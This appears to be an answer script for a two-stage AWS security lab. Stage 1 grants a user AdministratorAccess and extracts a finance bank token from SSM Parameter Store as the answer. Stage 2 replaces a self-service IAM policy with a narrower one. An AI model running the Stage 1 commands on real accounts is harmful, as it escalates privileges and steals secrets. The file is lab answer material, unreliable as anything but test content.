# Stage 1
aws iam attach-user-policy --user-name Milo --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
answer bank-token $(aws ssm get-parameter --name /finance/bank-token --query Parameter.Value --output text)
submit

# Stage 2
cat > self-service.json <<'JSON'
{
  "Version": "2012-10-17",
  "Statement": [
    {
      "Sid": "LookAfterYourOwnUser",
      "Effect": "Allow",
      "Action": ["iam:GetUser", "iam:ListGroupsForUser", "iam:*AccessKey*", "iam:List*Policies", "iam:GetUserPolicy"],
      "Resource": "arn:aws:iam::*:user/${aws:username}"
    }
  ]
}
JSON
arn=$(aws iam list-policies --scope Local --query "Policies[?PolicyName=='SelfService'].Arn" --output text)
aws iam create-policy-version --policy-arn $arn --policy-document file://self-service.json --set-as-default
submit
